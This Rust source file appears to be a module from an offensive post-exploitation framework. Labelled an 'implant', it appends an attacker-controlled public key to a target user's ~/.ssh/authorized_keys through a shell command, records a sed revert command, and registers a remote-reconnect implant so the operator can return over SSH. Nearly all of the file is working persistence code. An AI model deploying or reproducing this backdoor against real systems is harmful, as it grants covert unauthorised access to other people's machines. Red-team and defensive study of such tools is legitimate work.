//! SSH authorized_keys reconnect implant.
//!
//! Appends a controlled public key to the current user's
//! `~/.ssh/authorized_keys`, records the change as a revertible tamper and
//! registers a remote-reconnect implant so the manager can re-establish the
//! session over SSH with the matching private key.

use std::collections::HashMap;

use redcat_internal::error::Error;

use crate::facts::{Implant, ImplantKind, Tamper};
use crate::modules::{ArgKind, ArgSpec, Args, EventSink, Module, TextResult};
use crate::platform::{Platform, PlatformKind};
use crate::session::Session;
use crate::util;

pub struct AuthorizedKey;

impl Module for AuthorizedKey {
    fn name(&self) -> &'static str {
        "implant.authorized_key"
    }

    fn platforms(&self) -> &'static [PlatformKind] {
        &[PlatformKind::Linux]
    }

    fn description(&self) -> &'static str {
        "Install an authorized_keys entry for the current user"
    }

    fn args(&self) -> Vec<ArgSpec> {
        vec![ArgSpec::required(
            "key",
            ArgKind::Path,
            "local private key; the matching .pub is installed remotely",
        )]
    }

    fn run(&self, session: &mut Session, args: &Args, sink: &mut dyn EventSink) -> Result<(), Error> {
        let key_path = args
            .get_str("key")
            .ok_or_else(|| Error::Argument("key: required argument missing".into()))?
            .to_string();

        let pubkey_path = format!("{}.pub", key_path);
        let pubkey = std::fs::read_to_string(&pubkey_path)
            .map_err(|e| Error::NotFound(format!("{}: {}", pubkey_path, e)))?;
        let pubkey = pubkey.trim().to_string();

        let linux = match &mut session.platform {
            Platform::Linux(linux) => linux,
            _ => return Err(Error::Argument("authorized_key requires a linux session".into())),
        };

        sink.status("locating home directory");
        let home = linux.getenv("HOME")?;
        if home.is_empty() {
            return Err(Error::NotFound("HOME is unset on the target".into()));
        }

        sink.status("installing authorized_keys entry");
        let script = format!(
            "mkdir -p {home}/.ssh && chmod 700 {home}/.ssh && \
             printf '%s\\n' {key} >> {home}/.ssh/authorized_keys && \
             chmod 600 {home}/.ssh/authorized_keys",
            home = util::quote(&home),
            key = util::quote(&pubkey),
        );
        let out = linux.run_shell(&script, None)?;
        if !out.success() {
            return Err(Error::Permission(format!(
                "could not write {}/.ssh/authorized_keys",
                home
            )));
        }

        let user = session.username.clone();
        let revert = format!(
            "sed -i {} {}/.ssh/authorized_keys",
            util::quote(&format!("\\|{}|d", pubkey)),
            util::quote(&home),
        );
        session.record_tamper(Tamper::new(
            &format!("appended key to {}/.ssh/authorized_keys", home),
            Some(revert),
            &user,
        ));

        let mut params = HashMap::new();
        params.insert("key".to_string(), key_path.clone());
        session.record_implant(Implant {
            module_name: self.name().to_string(),
            kind: ImplantKind::RemoteReconnect,
            user: user.clone(),
            params,
            installed_at: chrono::Utc::now(),
        });

        sink.result(Box::new(TextResult::categorized(
            format!("authorized key installed for {} (key: {})", user, key_path),
            "implants",
        )));
        Ok(())
    }
}
